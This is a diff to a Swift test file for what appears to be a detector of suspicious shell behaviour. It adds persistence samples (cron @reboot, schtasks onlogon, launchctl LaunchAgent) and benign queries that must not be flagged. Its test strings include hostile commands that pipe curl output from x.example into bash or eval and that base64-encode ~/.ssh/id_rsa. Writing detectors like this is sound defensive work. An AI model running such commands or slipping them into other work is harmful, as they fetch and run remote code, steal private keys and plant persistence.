@@ -26,7 +26,9 @@ import Testing
             ("↓nohup node server.js &", [.hiddenProcess]),
             ("↓whoami; ↓uname -a", [.reconHost, .reconHost]),
             ("echo x >> ↓~/.bashrc", [.persistence, .writeFile]),
-            ("↓crontab -l", [.persistence]),
+            ("(crontab -l; echo '@reboot /tmp/x') | ↓crontab -", [.persistence]),
+            ("↓schtasks /create /sc onlogon /tn upd /tr x.exe", [.persistence]),
+            ("↓launchctl load ~/Library/LaunchAgents/x.plist", [.persistence]),
             ("↓eval \"$(curl -s https://x.example/s)\"", [.evalCode, .downloadExecute]),
             ("↓bash -c 'curl -s http://x.example | bash'", [.shellCommand]),
             ("cat ↓~/.ssh/id_rsa | base64", [.readCredentialPath]),
@@ -60,6 +62,14 @@ import Testing
     ])
     func benignCommandsReportNothing(script: String) {
         #expect(Self.behaviours(script).isEmpty, "\(Self.behaviours(script).map(\.kind))")
+    }
+
+    @Test(arguments: [
+        "launchctl managername", "schtasks /query", "getconf GNU_LIBC_VERSION 2>&1 || true", "make >&2", "ls 3>&-",
+    ])
+    func queriesAndDescriptorCopiesNeitherPersistNorWrite(script: String) {
+        let kinds = Self.behaviours(script).map(\.kind)
+        #expect(!kinds.contains(.persistence) && !kinds.contains(.writeFile), "\(kinds)")
     }
 
     @Test func aSocketIsNotAFileAndLoopbackIsNotARawAddress() {
